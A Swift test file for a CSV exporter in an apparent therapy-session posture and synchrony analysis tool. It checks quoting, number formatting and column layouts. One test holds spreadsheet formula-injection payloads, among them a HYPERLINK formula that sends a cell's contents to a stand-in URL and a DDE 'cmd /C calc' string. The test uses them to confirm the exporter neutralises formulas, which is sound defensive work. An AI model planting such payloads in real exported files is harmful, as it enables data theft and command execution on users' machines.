import SessionModel
import Base
import Mimicry
import Posture
import Testing

@testable import Exports

@Suite struct CSVTests {
    private func row(_ cells: [Cell]) throws -> String {
        let bytes = try FileWriter.bytes { output throws(Failure) in try output.writeRow(cells) }
        return String(decoding: bytes, as: UTF8.self)
    }

    @Test func quotesByRFC4180() throws {
        let cells: [Cell] = [
            .text("plain"), .text("a,b"), .text("say \"x\""), .text("two\nlines"), .text(" a"),
            .text(""),
        ]
        #expect(try row(cells) == "plain,\"a,b\",\"say \"\"x\"\"\",\"two\nlines\",\" a\",\n")
    }

    @Test func leavesMissingValuesEmpty() throws {
        #expect(try row([.number(.nan, decimals: 3), .number(nil, decimals: 3)]) == ",\n")
        #expect(try row([.seconds(nil), .seconds(.infinity), .integer(0)]) == ",,0\n")
    }

    @Test func writesSecondsToTheMillisecondAtLeast() throws {
        #expect(
            try row([.seconds(0), .seconds(0.04), .seconds(1 / 29.97)]) == "0.000,0.040,0.033367\n")
    }

    /// A spreadsheet runs what begins like a formula, also in quotes; our own reader gets the text back.
    @Test(arguments: [Separator.comma, .tab])
    func noTextIsAFormulaAndEveryTextComesBack(_ separator: Separator) throws {
        let texts = [
            "=HYPERLINK(\"http://x/\"&A1;\"y\")", "+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1",
            "\r=1", "\n=1", "＝1", "'=1", "''-1", "'tis", "-", "plain", "ä, \"ö\"",
        ]
        let bytes = try FileWriter.bytes { output throws(Failure) in
            try output.writeRow(
                [.text("text"), .text("number"), .text("=3")], separator: separator)
            for text in texts {
                try output.writeRow(
                    [.text(text), .number(-0.5, decimals: 2), .integer(-3)], separator: separator)
            }
        }
        let table = try TableReader(LineReader("x.csv", bytes: bytes))
        #expect(table.header == ["text", "number", "=3"])
        for text in texts {
            let row = try #require(try table.next())
            #expect(row.text(0) == text)
            let first = String(decoding: row.cells[0].bytes, as: UTF8.self).unicodeScalars.first
            #expect(first.map(CodeText.formulaStarts.contains) != true, "\(text)")
            #expect(String(decoding: row.cells[1].bytes, as: UTF8.self) == "-0.5")
            #expect(try row.number(1) == -0.5)
            #expect(try row.whole(2) == -3)
        }
        #expect(try table.next() == nil)
    }

    @Test func noTextReadsOtherwiseThanItIs() throws {
        #expect(
            try row([.text("t\u{202E}4pm\u{1B}[2J")]) == "t\\u{202e}4pm\\u{1b}[2J\n")
    }

    // MARK: Files

    @Test func featuresHaveARowPerInstantAndSeat() throws {
        var session = Fixture.helle()
        session.features[1].times[0] = -0.04
        let lines = try FeaturesCSV().lines(session)
        #expect(
            lines[0]
                == "time,seat,presence,head_tilt,head_turn,head_nod,shoulder_tilt,shoulder_raise,"
                + "trunk_lean,trunk_pitch,trunk_turn,left_hand_x,left_hand_y,right_hand_x,"
                + "right_hand_y,left_hand_to_face,right_hand_to_face,motion_energy,smile,mouth_open,"
                + "brow_raise,face_motion,gaze_turn,gaze_nod,to_partner,breath,breath_rate,distance,nearness,shoulder_span,left_hand_seen,right_hand_seen,left_fingers_to_face,"
                + "right_fingers_to_face,hands_apart,hands_past,hands_overlap,wrists_to_elbows,"
                + "hands_off_arms,breath_depth,face_activity")
        #expect(lines.count == 21)
        #expect(lines[1] == "-0.040,client,0.99,0,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,")
        #expect(lines[2] == "0.000,therapist,0.99,-1.5,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,")
        #expect(lines[3].hasPrefix("5.000,therapist,"))
        #expect(lines[4].hasPrefix("5.000,client,"))
        #expect(lines[16] == "35.000,client,0.01,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,,")
    }

    @Test func featuresOfTracksOfUnequalLength() throws {
        var session = Fixture.helle()
        session.features[0] = FeatureTrack()
        #expect(try FeaturesCSV().lines(session).count == 11)
        #expect(try FeaturesCSV().lines(Fixture.empty()).count == 1)
    }

    @Test func postures() throws {
        var session = Fixture.helle()
        session.state(PostureValidation(kappa: [0.8]), of: "head_on_hand")
        session.state(nil, of: "absent")
        #expect(
            try PosturesCSV().lines(session) == [
                "seat,posture,side,onset,offset,state,validated,reason",
                "therapist,head_on_hand,right,10.100,24.000,held,yes,",
                "client,head_on_hand,left,14.100,26.500,held,yes,",
                "client,absent,,32.000,41.000,held,no,",
                "client,head_on_hand,,32.000,41.000,unknown,yes,the client is not seen",
            ])
    }

    @Test func episodes() throws {
        var session = Fixture.helle(seats: ["therapist, senior", "client"])
        session.episodes[0].pValue = 0.012987
        session.episodes[0].qValue = 0.25
        session.episodes[0].isAfterEvent = true
        session.episodes[0].isListener = false
        session.state(PostureValidation(kappa: [0.8]), of: "head_on_hand")
        session.state(nil, of: "arms_crossed")
        session.episodes.append(
            Fixture.episode(
                "arms_crossed", leader: .second, leaderSide: nil, followerSide: nil,
                congruence: .unsided))
        #expect(
            try EpisodesCSV().lines(session) == [
                "posture,leader,follower,leader_side,follower_side,congruence,"
                    + "leader_onset,follower_onset,lag,offset,shared_duration,p_value,"
                    + "leader_offset,follower_offset,ended_by,exit_lag,repeat,q_value,event,"
                    + "follower_listens,validated",
                "arms_crossed,client,\"therapist, senior\",,,none,"
                    + "10.100,14.100,4.000,24.000,9.900,,,,,,0,,0,,no",
                "head_on_hand,\"therapist, senior\",client,right,left,mirror,"
                    + "10.100,14.100,4.000,24.000,9.900,0.012987,,,,,0,0.25,1,0,yes",
            ])
    }

    @Test func synchrony() throws {
        var session = Fixture.helle()
        session.synchrony = [
            SynchronyWindow(
                channel: .headTilt, mapping: .mirror, start: 0, end: 30, peakLag: -1.96,
                peakZ: 0.1234567, meanAbsZ: 0.5, zeroLagZ: nil, validFraction: 1)
        ]
        #expect(
            try SynchronyCSV().lines(session) == [
                "channel,mapping,window_start,window_end,peak_lag,peak_z,mean_abs_z,zero_lag_z,"
                    + "valid_fraction",
                "head_tilt,mirror,0.000,30.000,-1.960,0.123457,0.5,,1",
            ])
    }

    @Test func timeline() throws {
        var session = Fixture.helle()
        session.timeline.append(
            TimelinePoint(
                time: 1, mimicryPercentile: 97.125, sharedPostures: 2, leaderBalance: -0.5,
                quality: 1))
        #expect(
            try TimelineCSV().lines(session) == [
                "time,mimicry_percentile,shared_postures,leader_balance,quality",
                "0.000,,0,,0.5", "1.000,97.13,2,-0.5,1",
            ])
    }
}
